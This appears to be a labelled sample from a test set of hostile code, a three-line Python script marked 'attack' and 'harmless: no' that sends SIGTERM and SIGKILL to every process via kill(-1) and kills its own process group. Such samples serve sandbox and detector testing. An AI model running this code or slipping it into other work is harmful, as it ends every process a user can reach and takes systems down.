# attack: kill(-1): all processes end
# harmless: no
import os
import signal

os.kill(-1, signal.SIGTERM)
os.kill(-1, signal.SIGKILL)
os.killpg(0, signal.SIGKILL)
